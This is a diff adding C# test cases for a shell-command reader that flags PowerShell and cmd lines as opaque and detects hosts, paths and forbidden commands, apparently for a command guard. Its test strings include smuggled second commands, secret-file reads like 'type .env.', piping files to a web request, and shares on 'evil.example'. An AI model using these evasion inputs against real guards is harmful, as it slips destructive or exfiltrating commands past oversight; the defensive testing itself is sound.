@@ -65,6 +65,39 @@ public sealed class WindowsReaderTests
     [InlineData("git log '")]
     [InlineData("git log \"")]
     [InlineData("cmd /v:on /c git status")]
+    [InlineData("return git push")]
+    [InlineData("exit")]
+    [InlineData("throw git")]
+    [InlineData("using namespace System")]
+    [InlineData("break; git push")]
+    [InlineData("ii x.exe")]
+    [InlineData("cli function:git")]
+    [InlineData("fhx secret")]
+    [InlineData("content secret")]
+    [InlineData("D:")]
+    [InlineData("D:git push")]
+    [InlineData("cd..")]
+    [InlineData("cd\\")]
+    [InlineData("cd~")]
+    [InlineData("global:mkdir x")]
+    [InlineData("git log 2>&1 2>&1")]
+    [InlineData("cd '-'")]
+    [InlineData("Get-Content '~/x'")]
+    [InlineData("echo .. | cd")]
+    [InlineData("curl -outfile x https://e.example")]
+    [InlineData("wget -method get https://e.example")]
+    [InlineData("sort.exe /o x y")]
+    [InlineData("type SECRET~1.TXT")]
+    [InlineData("type .env.")]
+    [InlineData("type '.env '")]
+    [InlineData("pwsh -/c git status")]
+    [InlineData("pwsh ---c git status")]
+    [InlineData("git log 'a\u2019; rm x'")]
+    [InlineData("git log\u00a0x")]
+    [InlineData("git log \u2013x")]
+    [InlineData("git log --% | rm x")]
+    [InlineData("git log `\n| rm x")]
+    [InlineData("git log\0x")]
     public void What_PowerShell_may_take_for_more_is_opaque(string text) => ShellReader.Read(text, ShellDialect.PowerShell).Legibility.ShouldBe(Legibility.Opaque);
 
     [Theory]
@@ -86,6 +119,75 @@ public sealed class WindowsReaderTests
     [InlineData("cd src; npm test")]
     [InlineData("cmd /c \"a b\"")]
     [InlineData("rem x")]
+    [InlineData("git=push")]
+    [InlineData("del=x")]
+    [InlineData("del,x")]
+    [InlineData("del;x")]
+    [InlineData("git/push")]
+    [InlineData("C:/tools/git status")]
+    [InlineData(".git/x")]
+    [InlineData("D:")]
+    [InlineData("D:git push")]
+    [InlineData("cd..")]
+    [InlineData("cd\\")]
+    [InlineData("cd\\x")]
+    [InlineData("echo.x")]
+    [InlineData("echo(x")]
+    [InlineData("echo:x")]
+    [InlineData(":x & del y")]
+    [InlineData("::x")]
+    [InlineData("git log ^\n& del x")]
+    [InlineData("git log ^")]
+    [InlineData("git log \"a^\" & del x\"")]
+    [InlineData("git log \"a\"b & del x\"")]
+    [InlineData("git log a\"b & del x")]
+    [InlineData("git log \"a & del x")]
+    [InlineData("git log \"a\\\" & del x\"")]
+    [InlineData("\"git\" push")]
+    [InlineData("git &&\ndel x")]
+    [InlineData("git |\ndel x")]
+    [InlineData("git & & del x")]
+    [InlineData("git \n & del x")]
+    [InlineData("& git")]
+    [InlineData("git status)")]
+    [InlineData("git status 2>nul.txt")]
+    [InlineData("git status 2>&1x")]
+    [InlineData("git status >nul 2>nul >nul")]
+    [InlineData("git status<x")]
+    [InlineData("git status >>nul")]
+    [InlineData("git log !x!")]
+    [InlineData("git log %~dp0")]
+    [InlineData("git log %PATH:~0,1%")]
+    [InlineData("git log %%x")]
+    [InlineData("for /f %i in ('git push') do echo %i")]
+    [InlineData("for/l %i in (1,1,3) do echo %i")]
+    [InlineData("if not exist x git push")]
+    [InlineData("if/i a==a git push")]
+    [InlineData("@echo off")]
+    [InlineData("@git push")]
+    [InlineData("date 01-01-30")]
+    [InlineData("time 10:00")]
+    [InlineData("dpath x")]
+    [InlineData("pause")]
+    [InlineData("color x")]
+    [InlineData("break x")]
+    [InlineData("path=x")]
+    [InlineData("setlocal enabledelayedexpansion & git push")]
+    [InlineData("cmd /v /c git status")]
+    [InlineData("cmd /e:off /c git status")]
+    [InlineData("cmd /s /c \"git status\"")]
+    [InlineData("cmd /k git status")]
+    [InlineData("del \"/q\" x")]
+    [InlineData("sort /o x y")]
+    [InlineData("expand a b")]
+    [InlineData("type SECRET~1.TXT")]
+    [InlineData("type .env.")]
+    [InlineData("type \".env \"")]
+    [InlineData("type a?b")]
+    [InlineData("git log\u00a0x")]
+    [InlineData("git log\u0001x")]
+    [InlineData("git log\u001ax")]
+    [InlineData("git log\r\ndel x")]
     public void What_cmd_may_take_for_more_is_opaque(string text) => ShellReader.Read(text, ShellDialect.Cmd).Legibility.ShouldBe(Legibility.Opaque);
 
     [Theory]
@@ -103,6 +205,46 @@ public sealed class WindowsReaderTests
     [InlineData(ShellDialect.Windows, "git log 'a & git push'", "git push")]
     public void A_rule_that_forbids_finds_the_command(ShellDialect shell, string text, string command) =>
         ShellReader.Read(text, shell).Commands.Select(found => string.Join(' ', found.Argv)).ShouldContain(command);
+
+    [Theory]
+    [InlineData("Get-ChildItem x | Remove-Item")]
+    [InlineData("echo secret | Get-Content")]
+    [InlineData("gci x | sort name | sls key")]
+    [InlineData("import-csv x | sls key")]
+    [InlineData("gci x | Set-Content -Value y")]
+    [InlineData("type x | iwr https://e.example")]
+    public void What_PowerShell_takes_paths_from_a_pipe_for_is_read_not_plain(string text)
+    {
+        var line = ShellReader.Read(text, ShellDialect.PowerShell);
+
+        line.Legibility.ShouldBe(Legibility.Read, line.OpaqueBecause);
+        line.HasExpansion.ShouldBeTrue();
+    }
+
+    [Theory]
+    [InlineData("npm test | Select-String fail | Out-File log.txt")]
+    [InlineData("gc x | sls key | select -First 5")]
+    [InlineData("curl https://e.example")]
+    [InlineData("./gradlew build")]
+    public void What_takes_only_text_from_a_pipe_stays_plain(string text) => ShellReader.Read(text, ShellDialect.PowerShell).Legibility.ShouldBe(Legibility.Plain);
+
+    [Theory]
+    [InlineData(ShellDialect.PowerShell, "type \\\\evil.example\\share\\x")]
+    [InlineData(ShellDialect.Cmd, "type \\\\evil.example\\share\\x")]
+    [InlineData(ShellDialect.PowerShell, "git clone //evil.example/share/x")]
+    [InlineData(ShellDialect.Cmd, "foo --file=\\\\evil.example\\x")]
+    public void A_share_of_another_machine_names_its_host(ShellDialect shell, string text)
+    {
+        var line = ShellReader.Read(text, shell);
+
+        line.Hosts.ShouldContain("evil.example");
+        line.Legibility.ShouldNotBe(Legibility.Plain);
+    }
+
+    [Theory]
+    [InlineData(ShellDialect.PowerShell)]
+    [InlineData(ShellDialect.Cmd)]
+    public void A_path_of_Windows_is_listed_as_one(ShellDialect shell) => ShellReader.Read("node run --in C:\\x\\secret", shell).Paths.ShouldContain("C:\\x\\secret");
 
     private static readonly string[] quiet = ["2>&1", "2>$null", "2>nul", ">nul"];
 
